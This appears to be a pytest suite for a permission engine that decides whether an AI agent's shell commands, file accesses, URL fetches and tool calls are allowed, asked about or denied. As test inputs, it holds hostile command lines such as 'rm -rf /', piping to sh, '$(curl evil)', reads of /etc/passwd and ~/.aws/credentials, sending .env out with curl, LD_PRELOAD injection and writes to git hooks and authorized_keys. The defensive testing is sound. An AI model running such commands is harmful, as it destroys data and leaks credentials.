"""The rule that decides."""

from __future__ import annotations

import os
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from policy.fixtures import HOME, PROJECT, policy, read, request, rules, run, write
from policy.shell.command_lines import SOUP
from support.properties import steady

from accord.errors import RuleError
from accord.model.tool import Diff, Location, ToolCall
from accord.policy.action import Action
from accord.policy.engine import Policy
from accord.policy.rule import format_rule
from accord.policy.shell.parser import parse_line


@pytest.mark.parametrize(
    "texts, effect",
    [
        ([], "ask"),
        (["allow command:git status"], "allow"),
        (["ask command:git status"], "ask"),
        (["deny command:git status"], "deny"),
        # deny wins, in any position and however general
        (["allow command:git status", "deny command:git *"], "deny"),
        (["deny kind:*", "allow command:git status"], "deny"),
        (["deny all", "allow command:git status"], "deny"),
        (["allow line:git status", "deny command:git"], "deny"),
        # in one source, the more exact of asking and allowing; asking when both are as exact
        (["ask command:git *", "allow command:git status"], "allow"),
        (["allow command:git *", "ask command:git status"], "ask"),
        (["allow command:git status", "ask command:git status"], "ask"),
        (["allow command:git *", "ask command:git s*"], "ask"),
        (["ask kind:execute", "allow command:git *"], "allow"),
        (["ask all", "allow command:git *"], "allow"),
        (["ask agent:scribe", "allow command:git *"], "allow"),
        (["allow all", "ask command:git *"], "ask"),
        (["allow all"], "allow"),
        # rules about something else
        (["allow command:git push", "deny command:git push", "ask path:x"], "ask"),
        (["allow command:git status agent:other"], "ask"),
        (["allow command:git status agent:scribe"], "allow"),
        (["allow command:git status session:s2"], "ask"),
        (["allow command:git status session:s1"], "allow"),
        (["deny all session:s2", "allow command:git status"], "allow"),
        (["allow command:git status title:other"], "ask"),
        (["allow command:git status expires:1970-01-01T00:16:39Z"], "ask"),
        (["allow command:git status expires:1970-01-01T00:16:41Z"], "allow"),
        (["deny command:git status expires:1970-01-01T00:16:39Z", "allow command:git status"], "allow"),
    ],
)
def test_of_the_rules_of_one_source(texts: list[str], effect: str) -> None:
    for order in (texts, texts[::-1]):
        assert policy(*order).decide(run("git status", agent="scribe")).effect == effect


SOURCES = ["flags", "session", "remembered", "project_rules", "user"]


def from_sources(said: dict[str, str], *, trusted: bool) -> Policy:
    settings: dict[str, Any] = {source: [text] for source, text in said.items() if source != "flags"}
    return policy(*([said["flags"]] if "flags" in said else []), trusted=trusted, **settings)


@pytest.mark.parametrize("first", SOURCES)
@pytest.mark.parametrize("second", SOURCES)
def test_a_denial_wins_from_every_source(first: str, second: str) -> None:
    if first == second:
        return
    for trusted in (False, True):
        said = {first: "allow command:make", second: "deny command:make"}
        assert from_sources(said, trusted=trusted).decide(run("make")).effect == "deny"


@pytest.mark.parametrize(
    "allows, asks, effect",
    [
        ("flags", "session", "allow"),
        ("flags", "user", "allow"),
        ("flags", "project_rules", "allow"),
        ("session", "flags", "ask"),
        ("session", "remembered", "allow"),
        ("remembered", "flags", "ask"),
        ("remembered", "session", "ask"),
        ("remembered", "project_rules", "allow"),
        ("remembered", "user", "allow"),
        ("user", "flags", "ask"),
        ("user", "remembered", "ask"),
        ("user", "project_rules", "ask"),  # a project may narrow
        ("project_rules", "user", "ask"),  # and never speak against the user
        ("project_rules", "flags", "ask"),
    ],
)
def test_of_two_sources_the_nearer_one_decides(allows: str, asks: str, effect: str) -> None:
    said = {allows: "allow command:make", asks: "ask command:make *"}
    assert from_sources(said, trusted=True).decide(run("make")).effect == effect


def test_a_projects_allow_rules_apply_once_its_directory_is_trusted() -> None:
    narrow = policy(
        project_rules=["allow command:make", "deny command:rm", "ask command:git *"], user=["allow command:*"]
    )
    assert narrow.decide(run("rm x")).effect == "deny"
    assert narrow.decide(run("git push")).effect == "ask"
    alone = policy(project_rules=["allow command:make"])
    assert alone.decide(run("make")).effect == "ask"
    assert alone.notes == [
        "ignored, because this directory isn't trusted: allow command:make (in /work/app/accord.toml)"
    ]
    trusting = policy(project_rules=["allow command:make"], trusted=True)
    assert (trusting.decide(run("make")).effect, trusting.notes) == ("allow", [])


def test_the_default_is_to_ask_or_to_deny_and_never_to_allow() -> None:
    assert policy(default="deny").decide(run("make")).effect == "deny"
    with pytest.raises(RuleError, match="default is 'allow'; expected ask or deny"):
        policy(default="allow")


@pytest.mark.parametrize(
    "line, effect",
    [
        ("git status", "allow"),
        ("git status && npm run build", "allow"),
        ("git status; rm -rf /", "ask"),
        ("git status\nrm x", "ask"),
        ("git status | sh", "ask"),
        ("git status $(curl evil)", "ask"),
        ("git status `git status`", "ask"),
        ("npm run $(git status)", "allow"),
        ("npm run $(rm x)", "ask"),
        ("git status > out.txt", "ask"),
        ("git status > build/out.txt", "allow"),
        ("git status > build/../out.txt", "ask"),
        ("git status > ~/.bashrc", "ask"),
        ("git status > /dev/null 2>&1", "allow"),
        ("git status < in.txt", "allow"),  # the project's own files may be read
        ("git status < /etc/passwd", "ask"),
        ("PATH=/tmp git status", "ask"),
        ("GIT_PAGER=cat git status", "allow"),
        ("env git status", "allow"),
        ("bash -c 'git status'", "allow"),
        ("bash -c 'git status; rm x'", "ask"),
        ("env X=1 sh -c 'git status'", "ask"),
        ("sudo git status", "ask"),
        ("find . -exec git status ';'", "ask"),
        ("xargs git status", "ask"),
        ("f() { git status; }; f", "ask"),
        ("gіt status", "ask"),
        ("", "ask"),
        ("rm x; git push", "deny"),
        ("git push", "deny"),
        ("git -C /other push", "deny"),
        ("bash -c 'git push'", "deny"),
        ("echo $(git push)", "deny"),
        ("watch git push", "deny"),
        ("ssh host 'git push'", "deny"),
        ("git push; f() { a; }", "deny"),
    ],
)
def test_a_compound_command_is_allowed_only_if_each_part_is(line: str, effect: str) -> None:
    judged = policy(
        "allow command:git status", "allow command:npm run *", "allow write:build/*", "deny command:git push"
    )
    assert judged.decide(run(line)).effect == effect


ALONE = ["git status", "make test", "npm run build", "rm -rf x", "ls", "echo a", "cat *", "make $X", "cd src"]
GLUE = st.sampled_from([" && ", " || ", "; ", " | ", "\n", " & "])


@steady
@given(
    st.lists(st.sampled_from(["git status", "make *", "npm run *", "ls", "cat *", "echo a"]), unique=True),
    st.lists(st.tuples(st.sampled_from(ALONE), GLUE), min_size=1, max_size=4),
    st.sampled_from(["{}", "({})", "bash -c '{}'", "{{ {}; }}", "echo a $({})", "if {}; then ls; fi", "env {}"]),
)
def test_no_compound_is_allowed_when_a_part_alone_is_not(
    allowed: list[str], pieces: list[tuple[str, str]], frame: str
) -> None:
    judged = policy(*(f"allow command:{text}" for text in allowed))
    line = "".join(piece + glue for piece, glue in pieces[:-1]) + pieces[-1][0]
    alone = [judged.decide(run(piece)).effect for piece, _ in pieces]
    together = judged.decide(run(frame.format(line))).effect
    if "ask" in alone:
        assert together == "ask"
    elif frame == "{}":
        assert together == "allow"


@steady
@given(SOUP)
def test_no_soup_of_signs_is_allowed_unless_all_commands_in_it_are(line: str) -> None:
    judged = policy("allow command:a *", "allow command:env *", "allow write:f")
    if judged.decide(run(line)).allowed:
        script = parse_line(line)
        assert script.problem is None
        assert all(command.words[0].text in ("a", "env") and not command.assignments for command in script.commands)
        assert set(script.writes) <= {"f", "./f"}


def test_a_whole_line_can_be_allowed_as_it_stands() -> None:
    judged = policy("allow line:cd sub && make > log")
    assert judged.decide(run("cd sub && make")).effect == "ask"
    assert judged.decide(run("make > log")).effect == "ask"
    assert judged.decide(run(" cd sub && make > log ")).effect == "ask"  # a relative path after cd: not certain
    judged = policy("allow line:a | b > log")
    assert judged.decide(run("a | b > log")).effect == "allow"
    assert judged.decide(run("a | b > log", env={"LD_PRELOAD": "x"})).effect == "ask"
    assert policy("allow line:f() { a; }; f").decide(run("f() { a; }; f")).effect == "ask"


def test_variables_that_are_set_for_a_command_count() -> None:
    judged = policy("allow command:make *")
    assert judged.decide(run("make", env={"CI": "1"})).effect == "allow"
    assert judged.decide(run("make", env={"LD_PRELOAD": "/tmp/evil.so"})).effect == "ask"


def test_a_command_outside_of_the_project_is_asked_about() -> None:
    judged = policy("allow command:make *")
    assert judged.decide(run("make", cwd=f"{PROJECT}/sub")).effect == "allow"
    assert judged.decide(run("make", cwd="/work/app2")).effect == "ask"
    assert judged.decide(run("make", cwd=f"{PROJECT}/../x")).effect == "ask"


def test_words_without_a_shell_are_judged_as_words() -> None:
    judged = policy("allow command:echo *", "allow command:git status")
    echo = Action.of_terminal("echo", ["$(rm x); rm y"], shell=False, project=PROJECT)
    shell = Action.of_terminal("bash", ["-lc", "git status; rm x"], shell=False, project=PROJECT)
    odd = Action.of_terminal("git status", ["x"], shell=False, project=PROJECT)
    assert [judged.decide(each).effect for each in (echo, shell, odd)] == ["allow", "ask", "ask"]


@pytest.mark.parametrize(
    "texts, action, effect",
    [
        ([], read("src/a.py"), "allow"),
        ([], read("/etc/passwd"), "ask"),
        ([], write("src/a.py"), "ask"),
        (["deny read:**/.env"], read(".env"), "deny"),
        (["ask read:secrets/**"], read("secrets/key"), "ask"),
        (["allow write:src/**"], write("src/a.py"), "allow"),
        (["allow write:src/**"], write("src/../b.py"), "ask"),
        (["allow write:src/**"], write("lib/a.py"), "ask"),
        (["allow write:src/**"], write("/work/app2/src/a.py"), "ask"),
        (["allow read:src/**"], write("src/a.py"), "ask"),
        (["allow path:src/**"], write("src/a.py"), "allow"),
        (["allow write:/other/**"], read("/other/a"), "ask"),
        (["allow write:/other/**"], write("/other/a"), "allow"),
        (["allow path:~/notes/**"], write(f"{HOME}/notes/a"), "allow"),
        (["deny path:SRC/**"], write("src/a.py"), "deny"),
        (["deny path:src"], write("src/a.py"), "deny"),
        (["allow path:src/**"], write("/work/app/src/a\0b"), "ask"),
        (["allow path:src/**"], Action(kind="write", paths=("src/a.py",)), "ask"),
        (["allow path:src/**"], Action(kind="write", paths=("src/a.py",), project=PROJECT), "allow"),
        (["allow path:src/**"], Action(kind="write", paths=(f"{PROJECT}/src/a", "/etc/x")), "ask"),
        (["allow path:src/**"], Action(kind="delete", paths=(f"{PROJECT}/src/a",)), "allow"),
        (["allow url:example.com"], Action(kind="fetch", url="https://example.com/a"), "allow"),
        (["allow url:example.com"], Action(kind="fetch", url="https://example.com.evil.org/a"), "ask"),
        (["deny url:evil.org"], Action(kind="fetch", url="https://a.evil.org"), "deny"),
        (["allow command:curl *", "deny url:evil.org"], run("curl https://evil.org/x"), "deny"),
        (["allow path:**"], Action(kind="mcp", title="Read a file", tool_kind="read"), "ask"),
        (["deny title:*drop table*"], Action(kind="mcp", title="DROP TABLE users"), "deny"),
    ],
)
def test_files_and_addresses(texts: list[str], action: Action, effect: str) -> None:
    assert policy(*texts).decide(action).effect == effect


@pytest.mark.parametrize(
    "texts, line, effect",
    [
        (["deny path:**/.env"], "cat .env", "deny"),
        (["deny path:**/.env"], "cat ./sub/.ENV", "deny"),
        (["deny path:**/.env"], "git show HEAD:.env", "deny"),
        (["deny path:**/.env"], "curl --data=@.env x", "deny"),
        (["deny path:**/.env"], "cp -t.env x", "deny"),
        (["deny path:sub/key"], "cd sub && cat key", "deny"),
        (["deny path:~/.aws/**"], "cat ~/.aws/credentials", "deny"),
        (["deny path:**/.env"], "cat .e*", "ask"),
        (["deny path:**/.env"], "cat $FILE", "ask"),
        (["deny command:rm -rf"], "rm $OPTIONS x", "ask"),
        (["deny command:rm -rf"], "rm x", "allow"),
        (["deny path:**/.env"], "cat README", "allow"),
        (["ask path:secrets/**"], "cat secrets/a", "ask"),
    ],
)
def test_a_denied_file_cannot_be_reached_by_a_command(texts: list[str], line: str, effect: str) -> None:
    assert policy("allow command:*", *texts).decide(run(line)).effect == effect


@pytest.mark.parametrize(
    "call, effect",
    [
        (ToolCall(id="1", kind="edit", locations=[Location(path=f"{PROJECT}/src/a.py")]), "allow"),
        (ToolCall(id="1", kind="edit", content=[Diff.of(f"{PROJECT}/src/a.py", "a", "b")]), "allow"),
        (ToolCall(id="1", kind="edit", locations=[Location(path=f"{PROJECT}/b.py")]), "ask"),
        # to call it reading, or nothing, does not help
        (ToolCall(id="1", kind="read", locations=[Location(path=f"{PROJECT}/b.py")]), "ask"),
        (ToolCall(id="1", kind="read", title="Read a file"), "ask"),
        (ToolCall(id="1", kind="other", locations=[Location(path=f"{PROJECT}/src/a.py")]), "ask"),
        (ToolCall(id="1", kind="execute", locations=[Location(path=f"{PROJECT}/src/a.py")]), "ask"),
        (ToolCall(id="1", kind="execute", raw_input={"command": "git status"}), "allow"),
        (ToolCall(id="1", kind="execute", raw_input={"command": "git status; rm x"}), "ask"),
        (ToolCall(id="1", kind="read", raw_input={"command": "git status"}), "ask"),
        (ToolCall(id="1", kind="execute", raw_input={"command": "git status", "path": "/p/.env"}), "deny"),
        (ToolCall(id="1", kind="read", locations=[Location(path=f"{PROJECT}/.env")]), "deny"),
    ],
    ids=lambda value: value if isinstance(value, str) else f"{value.kind} {value.raw_input} {value.locations}",
)
def test_a_permission_request_is_judged_by_what_it_names(call: ToolCall, effect: str) -> None:
    judged = policy("allow write:src/**", "allow command:git status", "deny read:**/.env")
    assert judged.decide(Action.of_request(request(call), project=PROJECT)).effect == effect


@pytest.mark.parametrize(
    "path",
    [
        *("accord.toml", "sub/accord.toml", "ACCORD.TOML", "src/../accord.toml", "/elsewhere/accord.toml"),
        *(".accord/x/y", ".git/hooks/pre-commit", ".git/config", ".git"),
        *(f"{HOME}/.bashrc", f"{HOME}/.zshenv", f"{HOME}/.config/fish/config.fish", f"{HOME}/.ssh/authorized_keys"),
        *("/data/accord/permissions.toml", "/data/accord/permissions.toml.lock"),
    ],
)
def test_changes_to_the_rules_always_need_permission(path: str) -> None:
    judged = policy(
        "allow all", "allow path:/**", "allow path:**", "allow line:x", protected=["/data/accord/permissions.toml"]
    )
    decision = judged.decide(write(path))
    assert (decision.effect, decision.by) == ("ask", "protection")


@pytest.mark.parametrize(
    "line", ["echo x > accord.toml", "tee accord.toml", "cp x .git/hooks/pre-commit", "cd .git/hooks && tee pre-commit"]
)
def test_a_command_that_names_such_a_file_is_asked_about_too(line: str) -> None:
    assert policy("allow command:*", "allow path:**", f"allow line:{line}").decide(run(line)).effect == "ask"


def test_a_link_to_such_a_file_is_that_file(tmp_path: Path) -> None:
    project = tmp_path / "app"
    (project / "src").mkdir(parents=True)
    (project / "src" / "notes").symlink_to(project / "accord.toml")
    (project / "src" / "out").symlink_to("/etc")
    judged = Policy(project, flags=rules("allow write:src/**", "deny path:/etc/**"), home=str(tmp_path))
    assert judged.decide(Action.of_write(str(project / "src" / "a"))).effect == "allow"
    assert judged.decide(Action.of_write(str(project / "src" / "notes"))).by == "protection"
    assert judged.decide(Action.of_write(str(project / "src" / "out" / "x"))).effect == "deny"


def test_a_project_reached_by_a_link_is_the_same_project(tmp_path: Path) -> None:
    (tmp_path / "real" / "src").mkdir(parents=True)
    (tmp_path / "link").symlink_to("real")
    judged = Policy(tmp_path / "link", flags=rules("allow write:src/*"), home=str(tmp_path))
    assert judged.decide(Action.of_write(os.fspath(tmp_path / "link" / "src" / "a"))).effect == "allow"
    assert judged.decide(Action.of_write(os.fspath(tmp_path / "real" / "src" / "a"))).effect == "allow"


@pytest.mark.parametrize(
    "texts, line, effect",
    [
        (["allow all"], 'for f in $(ls); do rm "$f"; done', "allow"),
        (["allow all"], "f() { a; }; f", "allow"),
        (["allow all"], "f() { a; } > accord.toml; f", "ask"),
        (["allow all", "deny command:rm"], "f() { a; }; f", "ask"),
        (["allow all", "deny kind:delete"], "f() { a; }; f", "allow"),
        (["allow all agent:other"], "make", "ask"),
    ],
)
def test_everything_can_be_allowed_and_nothing_is_circumvented_by_it(texts: list[str], line: str, effect: str) -> None:
    assert policy(*texts).decide(run(line)).effect == effect


def test_a_decision_says_why() -> None:
    denied = policy(user=["deny path:**/.env"]).decide(write(".env"))
    assert denied.why == "denied by your configuration: deny path:**/.env (/work/app/.env)"
    assert denied.rule is not None and (format_rule(denied.rule), denied.source) == ("deny path:**/.env", "user")
    assert policy().decide(run("make")).why == "no rule covers this (make)"
    assert policy().decide(run("a 'b")).why == "the command can't be analyzed: a ' isn't closed"


def test_rules_that_never_matched_are_known() -> None:
    judged = policy("allow command:make", "deny path:nowhere/**", user=["ask command:make *", "allow url:a.b"])
    assert len(judged.unused_rules()) == 4
    judged.decide(run("make"))
    assert [format_rule(rule) for rule in judged.unused_rules()] == ["deny path:nowhere/**", "allow url:a.b"]
    assert [format_rule(rule) for rule in judged.unused_rules(used=["allow url:a.b"])] == ["deny path:nowhere/**"]


@steady
@given(st.text(max_size=40), st.text(max_size=40), st.text(max_size=40))
def test_no_action_raises(line: str, path: str, url: str) -> None:
    judged = policy("allow command:*", "allow path:**", "deny path:**/x", "deny url:a.b", "deny title:*x*")
    judged.decide(run(line))
    judged.decide(Action(kind="write", paths=(path,), url=url, title=line, tool_kind=path, cwd=path))
    judged.decide(Action(kind="permission", argv=(line, path), cwd=url, env=((path, url),)))


@pytest.mark.parametrize(
    "texts, effect",
    [
        (["allow command:git status"], "ask"),
        (["allow line:git status"], "ask"),
        (["deny command:git status"], "ask"),
        (["allow all", "deny command:git push"], "ask"),  # it might match
        (["allow all"], "allow"),
        (["deny all"], "deny"),
    ],
)
def test_on_windows_rules_about_commands_lead_to_asking(
    monkeypatch: pytest.MonkeyPatch, texts: list[str], effect: str
) -> None:
    monkeypatch.setattr("accord.policy.shell.parser.os", SimpleNamespace(name="nt"))

    assert policy(*texts).decide(run("git status")).effect == effect
